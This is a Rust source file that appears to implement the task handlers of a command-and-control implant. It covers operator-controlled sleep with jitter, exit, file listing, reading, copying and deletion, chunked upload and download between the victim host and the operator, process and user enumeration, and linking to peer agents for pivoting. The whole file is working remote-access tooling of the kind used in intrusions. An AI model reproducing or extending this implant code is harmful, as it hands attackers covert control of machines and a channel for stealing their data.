//! Built-in task handlers

use crate::dispatch::{Dispatcher, Handler, Outcome, Task, TaskContext};
use crate::error::TaskError;
use crate::host;
use async_trait::async_trait;
use std::fmt::Write as _;
use std::io;
use std::path::Path;
use std::sync::Arc;
use tether_proto::wire::command;
use tether_proto::{records, ProtocolError};
use tether_transport::{Pacing, TransportError};
use tokio::fs;
use tracing::{debug, info};

/// Register every built-in handler
pub fn register_builtin(dispatcher: &mut Dispatcher) {
    let control = Arc::new(ControlHandler);
    let files = Arc::new(FileHandler);
    let transfers = Arc::new(TransferHandler);
    let links = Arc::new(LinkHandler);
    let host = Arc::new(HostHandler);

    for id in [command::STATUS, command::SLEEP, command::EXIT] {
        dispatcher.register(id, control.clone());
    }
    for id in [
        command::RM,
        command::LS,
        command::CD,
        command::PWD,
        command::MKDIR,
        command::CP,
        command::CAT,
    ] {
        dispatcher.register(id, files.clone());
    }
    for id in [command::UPLOAD, command::DOWNLOAD] {
        dispatcher.register(id, transfers.clone());
    }
    for id in [command::LINK, command::UNLINK] {
        dispatcher.register(id, links.clone());
    }
    for id in [command::PS, command::GETUID] {
        dispatcher.register(id, host.clone());
    }
}

fn unexpected(task: &Task) -> TaskError {
    TaskError::InvalidArguments(ProtocolError::UnknownRecord(task.command))
}

/// Handler for session control: status, sleep and exit
pub struct ControlHandler;

#[async_trait]
impl Handler for ControlHandler {
    async fn handle(&self, ctx: &mut TaskContext, task: &Task) -> Result<Outcome, TaskError> {
        match task.command {
            command::STATUS => {
                let mut report = String::new();
                for endpoint in ctx.selector.status().await {
                    let _ = writeln!(
                        report,
                        "{} -> {}{}",
                        endpoint.address,
                        if endpoint.alive { "ALIVE" } else { "DEAD" },
                        if endpoint.current { "\t(current)" } else { "" }
                    );
                }
                Ok(Outcome::Complete(report.into_bytes()))
            }
            command::SLEEP => {
                let mut args = task.arguments()?;
                if args.is_empty() {
                    return Ok(Outcome::Skipped);
                }
                let interval = args.u32()?;
                let jitter = args.u32()?;
                ctx.pacing = Pacing::from_secs(u64::from(interval), jitter);
                info!("Sleep set to {}s with {}% jitter", interval, ctx.pacing.jitter());
                Ok(Outcome::done())
            }
            command::EXIT => {
                info!("Exit requested by task {}", task.id);
                ctx.stop = true;
                Ok(Outcome::done())
            }
            _ => Err(unexpected(task)),
        }
    }
}

/// Handler for host introspection: process list and current user
pub struct HostHandler;

#[async_trait]
impl Handler for HostHandler {
    async fn handle(&self, _ctx: &mut TaskContext, task: &Task) -> Result<Outcome, TaskError> {
        match task.command {
            command::PS => {
                let entries = host::processes().await?;
                debug!("Listed {} processes", entries.len());
                Ok(Outcome::Complete(host::format_processes(&entries).into_bytes()))
            }
            command::GETUID => Ok(Outcome::Complete(host::current_user().into_bytes())),
            _ => Err(unexpected(task)),
        }
    }
}

/// Handler for local file operations
pub struct FileHandler;

#[async_trait]
impl Handler for FileHandler {
    async fn handle(&self, ctx: &mut TaskContext, task: &Task) -> Result<Outcome, TaskError> {
        if task.command == command::PWD {
            return Ok(Outcome::Complete(ctx.cwd.display().to_string().into_bytes()));
        }

        let mut args = task.arguments()?;
        if args.is_empty() {
            return Ok(Outcome::Skipped);
        }
        let path = ctx.resolve(args.string()?);
        debug!("File task 0x{:02x} on {}", task.command, path.display());

        match task.command {
            command::RM => {
                if fs::symlink_metadata(&path).await?.is_dir() {
                    fs::remove_dir(&path).await?;
                } else {
                    fs::remove_file(&path).await?;
                }
                Ok(Outcome::done())
            }
            command::LS => Ok(Outcome::Complete(self.list(&path).await?.into_bytes())),
            command::CD => {
                let target = fs::canonicalize(&path).await?;
                if !fs::metadata(&target).await?.is_dir() {
                    return Err(io::Error::from_raw_os_error(libc::ENOTDIR).into());
                }
                ctx.cwd = target;
                Ok(Outcome::Complete(ctx.cwd.display().to_string().into_bytes()))
            }
            command::MKDIR => {
                fs::create_dir_all(&path).await?;
                Ok(Outcome::done())
            }
            command::CP => {
                let destination = ctx.resolve(args.string()?);
                fs::copy(&path, &destination).await?;
                Ok(Outcome::done())
            }
            command::CAT => Ok(Outcome::Complete(fs::read(&path).await?)),
            _ => Err(unexpected(task)),
        }
    }
}

impl FileHandler {
    /// One line per entry: type, size and name, sorted by name
    async fn list(&self, path: &Path) -> Result<String, TaskError> {
        let mut dir = fs::read_dir(path).await?;
        let mut entries = Vec::new();

        while let Some(entry) = dir.next_entry().await? {
            let name = entry.file_name().to_string_lossy().to_string();
            let metadata = entry.metadata().await?;
            let kind = if metadata.is_dir() {
                'd'
            } else if metadata.file_type().is_symlink() {
                'l'
            } else {
                '-'
            };
            entries.push((name, kind, metadata.len()));
        }
        entries.sort();

        let mut listing = String::new();
        for (name, kind, size) in entries {
            let _ = writeln!(listing, "{} {:>12} {}", kind, size, name);
        }
        Ok(listing)
    }
}

/// Handler for chunked uploads and downloads
pub struct TransferHandler;

#[async_trait]
impl Handler for TransferHandler {
    async fn handle(&self, ctx: &mut TaskContext, task: &Task) -> Result<Outcome, TaskError> {
        let mut args = task.arguments()?;
        if args.is_empty() {
            return Ok(Outcome::Skipped);
        }
        match task.command {
            command::DOWNLOAD => {
                let label = args.string()?;
                let path = ctx.resolve(label);
                ctx.transfers.start_download(&task.id, &path, label).await?;
                Ok(Outcome::Deferred)
            }
            command::UPLOAD => {
                let file = args.id()?;
                let label = args.string()?;
                let path = ctx.resolve(label);
                ctx.transfers.start_upload(&task.id, file, &path, label).await?;
                Ok(Outcome::Deferred)
            }
            _ => Err(unexpected(task)),
        }
    }
}

/// Handler for linking and unlinking peer agents
pub struct LinkHandler;

#[async_trait]
impl Handler for LinkHandler {
    async fn handle(&self, ctx: &mut TaskContext, task: &Task) -> Result<Outcome, TaskError> {
        let mut args = task.arguments()?;
        if args.is_empty() {
            return Ok(Outcome::Skipped);
        }
        match task.command {
            command::LINK => {
                let target = args.string()?;
                let name = match args.string()? {
                    "" => ctx.default_channel.clone(),
                    name => name.to_string(),
                };
                let (link_id, handshake) = ctx.relay.connect(&task.id, target, &name).await?;
                ctx.queue
                    .submit(records::link_established(&task.id, 1, link_id, &handshake))
                    .await;
                Ok(Outcome::Deferred)
            }
            command::UNLINK => {
                let link_id = args.u32()?;
                if ctx.relay.unlink(link_id).await {
                    Ok(Outcome::done())
                } else {
                    Err(TransportError::Connection(format!("no link {:08x}", link_id)).into())
                }
            }
            _ => Err(unexpected(task)),
        }
    }
}
